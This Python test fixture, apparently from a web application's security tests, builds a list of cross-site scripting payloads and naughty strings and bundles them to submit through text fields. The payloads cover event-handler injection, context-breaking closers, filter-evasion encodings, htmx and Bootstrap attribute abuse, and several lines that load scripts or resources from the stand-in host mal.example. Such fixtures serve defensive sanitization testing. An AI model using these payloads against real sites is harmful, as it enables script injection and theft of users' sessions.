"""HTML that would act if a page believed it, and the well-known naughty strings: all that a text field may receive.

Each of ours calls `zebre()`, which no page defines: whoever watches a browser defines it to know that one ran.
"""

import json
from collections.abc import Iterator
from pathlib import Path

from tests import hostiles

BLNS: list[str] = json.loads((Path(__file__).parent / "blns.json").read_text("utf-8"))
_ELEMENTS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "details open ontoggle",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "video src=x onerror",
    "audio src=x onerror",
    "iframe onload",
    "marquee onstart",
    "style onload",
    "link rel=stylesheet href=x onerror",
    "object data=x onerror",
    "p tabindex=0 autofocus onfocus",
    "animate onbegin",
    "xss style=animation:x onanimationstart",
)
_FERMETURES = ('"', "'", '">', "'>", "</p>", "</textarea>", "</title>", "</option></select>", "-->", "]]>")
_AUTRES = (
    "<script>zebre()</script>",
    "<ScRiPt >zebre()</sCrIpT>",
    "<script src=//mal.example/x.js></script>",
    "<scr<script>ipt>zebre()</script>",
    "<svg><script>zebre()</script></svg>",
    "<math><mi//xlink:href='data:x,<script>zebre()</script>'>",
    "<iframe src='javascript:zebre()'></iframe>",
    "<iframe srcdoc='<script>parent.zebre()</script>'></iframe>",
    "<a href='javascript:zebre()' autofocus>ici</a>",
    "<form action='javascript:zebre()'><button>ici</button></form>",
    "<base href='//mal.example/'>",
    "<meta http-equiv=refresh content='0;url=//mal.example/'>",
    "<link rel=stylesheet href='//mal.example/x.css'>",
    "<style>@import '//mal.example/x.css';</style>",
    "<div style='background:url(//mal.example/x.png)'>x</div>",
    "<img src=//mal.example/x.png>",
    "<img srcset='//mal.example/x.png 1x'>",
    "<object data='//mal.example/x'></object>",
    "<embed src='//mal.example/x'>",
    "<template><script>zebre()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=zebre()>'>",
    "<div hx-get='/compte/' hx-trigger='load' hx-on:htmx:load='zebre()'>x</div>",
    "<div hx-on::load=zebre() data-hx-trigger=load>x</div>",
    "<p data-bs-toggle=tooltip data-bs-html=true data-bs-title='<img src=x onerror=zebre()>'>x</p>",
    "{{constructor.constructor('zebre()')()}}",
    "${zebre()}",
    "javascript:zebre()",
    "data:text/html,<script>zebre()</script>",
    "\u003cscript\u003ezebre()\u003c/script\u003e",
    "&lt;script&gt;zebre()&lt;/script&gt;",
    "&#60;script&#62;zebre()&#60;/script&#62;",
    "<\u0000script>zebre()</script>",
    "＜script＞zebre()＜/script＞",
    "<img/src=`x`onerror=zebre()>",
    "<svg/onload=zebre()//",
    "[ici](javascript:zebre())",
    "[[embed url='javascript:zebre()']]",
    "<embed embedtype='image' id='1' alt='\" onload=\"zebre()'/>",
)
HTML = [
    *[f"<{element}=zebre()>" for element in _ELEMENTS],
    *[f"{fin}<img src=x onerror=zebre()>" for fin in _FERMETURES],
    *[f"x{fin} onmouseover=zebre() autofocus onfocus=zebre() x={fin[:1]}" for fin in _FERMETURES[:2]],
    *_AUTRES,
]
TOUT = [*dict.fromkeys([*BLNS, *hostiles.TEXTES, *HTML])]


def paquets(taille: int, textes: list[str] | None = None) -> Iterator[str]:
    """The strings, several to a text, one per line; those with a NUL apart, since a form refuses the whole text."""
    courant = ""
    for texte in sorted(TOUT if textes is None else textes, key=lambda texte: "\x00" in texte):
        texte = texte[:taille]
        suite = f"{courant}\n{texte}" if courant else texte
        if courant and (len(suite) > taille or "\x00" in texte and "\x00" not in courant):
            yield courant
            suite = texte
        courant = suite
    yield courant
